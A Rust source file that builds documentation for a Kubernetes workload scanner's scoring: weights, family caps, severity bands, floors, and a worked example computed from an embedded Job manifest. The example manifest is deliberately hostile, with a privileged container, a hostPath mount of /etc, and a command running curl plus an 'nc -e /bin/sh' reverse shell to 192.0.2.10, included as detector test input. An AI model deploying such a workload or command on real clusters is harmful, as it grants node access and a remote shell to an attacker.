//! How findings become a score: the tables of [`crate::score`] in words, with an example that it computes itself.

use super::document::{Block, Document, Inline, code, paragraph, text};
use crate::assess::{Assessment, assess};
use crate::detect::catalog::rules;
use crate::detect::{Rule, system};
use crate::score::{
    BANDS, FLOORS, Family, Formula, HOST_PATHS_COUNTED, MAX_SCORE, STRONG_INTENT, TWENTIETHS, WEIGHTS,
    decimal, summands,
};
use crate::workload::Kind;
use crate::workload::decode;

/// The example: a CronJob that shows a sum, a cap, the combination and a floor.
const EXAMPLE: &str = r#"{
  "apiVersion": "batch/v1", "kind": "Job",
  "metadata": {"name": "example", "namespace": "shop"},
  "spec": {"template": {"spec": {
    "hostNetwork": true,
    "volumes": [{"name": "etc", "hostPath": {"path": "/etc"}}],
    "containers": [{
      "name": "main",
      "image": "alpine",
      "securityContext": {"privileged": true},
      "volumeMounts": [{"name": "etc", "mountPath": "/node/etc"}],
      "command": ["sh", "-c", "curl http://files.example.test/a; nc -e /bin/sh 192.0.2.10 4444"]
    }]
  }}}
}
"#;

pub(super) fn scoring() -> Document {
    let mut page = vec![
        Block::Heading(1, "Scoring".to_owned()),
        paragraph(
            "Every report has the sum in status.explanation, so that it can be redone by hand. This is all of the \
             arithmetic.",
        ),
        Block::Heading(2, "From findings to points".to_owned()),
        paragraph(format!(
            "Every rule counts once, with its highest points; host path rules count once per path, {HOST_PATHS_COUNTED} \
             times at most. Within a family the points are sorted, highest first, and weighted:"
        )),
        weights(),
        paragraph(
            "The sum of a family is rounded to the nearest integer (half up) and cut at the cap of the family:",
        ),
        families(),
        paragraph(format!(
            "Host access together with a command that wants it is an attack, where each alone is posture or a \
             foothold: a quarter of the smaller of the two families is added (rounded half up). The total is cut at \
             {MAX_SCORE}."
        )),
        Block::Heading(2, "From points to severity".to_owned()),
        bands(),
        paragraph(
            "Floors raise the severity, never lower it and never change the score. They stand in \
             status.explanation.floors by their names, also where the score alone is as severe:",
        ),
        floors(),
    ];
    page.extend(terms());
    page.extend(example());
    page
}

fn weights() -> Block {
    let last = WEIGHTS.len() - 1;
    let rows = WEIGHTS.iter().enumerate().map(|(index, weight)| {
        let place =
            if index == last { format!("{} and all further", index + 1) } else { (index + 1).to_string() };
        vec![vec![text(place)], vec![text(decimal(*weight))]]
    });
    Block::Table(vec!["place", "weight"], rows.collect())
}

fn families() -> Block {
    let rows = Family::ALL.into_iter().map(|family| {
        vec![vec![code(family.as_str())], vec![text(family.about())], vec![text(family.cap().to_string())]]
    });
    Block::Table(vec!["family", "what it looks at", "cap"], rows.collect())
}

fn bands() -> Block {
    let mut rows: Vec<Vec<Vec<Inline>>> = BANDS
        .iter()
        .map(|(lowest, severity)| {
            vec![vec![text(severity.as_str())], vec![text(format!("{lowest} and above"))]]
        })
        .collect();
    rows.push(vec![vec![text("None")], vec![text("below")]]);
    Block::Table(vec!["severity", "score"], rows)
}

fn floors() -> Block {
    let rows = FLOORS.iter().map(|floor| {
        vec![
            vec![code(floor.id)],
            vec![text(floor.severity.as_str())],
            vec![text(floor.condition)],
            vec![text(floor.reason)],
        ]
    });
    Block::Table(vec!["floor", "severity", "when", "why"], rows.collect())
}

fn terms() -> Vec<Block> {
    let ids = |is_one: fn(&Rule) -> bool| {
        let mut inlines = Vec::new();
        for rule in rules().filter(|rule| is_one(rule)) {
            if !inlines.is_empty() {
                inlines.push(text(", "));
            }
            inlines.push(code(rule.id));
        }
        inlines
    };
    let term = |words: String, mut inlines: Vec<Inline>| {
        inlines.insert(0, text(words));
        inlines
    };
    vec![
        paragraph("The words in this table:"),
        Block::Bullets(vec![
            vec![text(format!(
                "strong intent: a finding of the family command with {STRONG_INTENT} points or more"
            ))],
            term("rules that give access to the node: ".to_owned(), ids(|rule| rule.gives_node_access)),
            term("rules about the choice of a node: ".to_owned(), ids(|rule| rule.chooses_node)),
            term("rules about imitation: ".to_owned(), ids(|rule| rule.imitates_system)),
            vec![text(format!("namespaces of the control plane: {}", system::NAMESPACES.join(", ")))],
        ]),
    ]
}

fn example() -> Vec<Block> {
    let Some(assessment) = judged() else { return Vec::new() };
    let score = &assessment.score;
    let mut rows = Vec::new();
    for (family, points) in &score.families {
        let formula = Formula::new(*family, summands(&assessment.findings, *family));
        if !formula.summands.is_empty() {
            let named = formula.summands.iter().map(|summand| summand.rule.id).collect::<Vec<_>>().join(", ");
            rows.push(vec![
                vec![code(family.as_str())],
                vec![text(named)],
                vec![text(formula.to_string())],
                vec![text(points.to_string())],
            ]);
        }
    }
    let of = |family: Family| score.families.get(&family).copied().unwrap_or(0);
    let smaller = of(Family::Host).min(of(Family::Command));
    rows.push(vec![
        vec![code("combination")],
        vec![],
        vec![text(format!("a quarter of {smaller} = {}", decimal(smaller * (TWENTIETHS / 4))))],
        vec![text(score.combination.to_string())],
    ]);
    let sum: i32 = score.families.values().sum::<i32>() + score.combination;
    let cut = if sum > score.total { format!("{sum}, at most {MAX_SCORE}") } else { sum.to_string() };
    rows.push(vec![vec![code("total")], vec![], vec![text(cut)], vec![text(score.total.to_string())]]);
    let floors: Vec<String> =
        score.floors.iter().map(|floor| format!("{} ({})", floor.id, floor.severity)).collect();
    vec![
        Block::Heading(2, "Example".to_owned()),
        Block::Code("json", EXAMPLE.to_owned()),
        Block::Table(vec!["family", "rules", "sum", "points"], rows),
        paragraph(format!("Severity {}. Floors that apply: {}.", score.severity, floors.join(", "))),
    ]
}

fn judged() -> Option<Assessment> {
    decode::from_json(EXAMPLE.as_bytes()).ok().map(|object| assess(Kind::Job, &object))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_example_shows_every_part_of_the_sum() {
        let score = judged().unwrap().score;
        assert!(score.combination > 0 && !score.floors.is_empty());
        assert!(score.families.values().filter(|points| **points > 0).count() >= 3);
    }
}
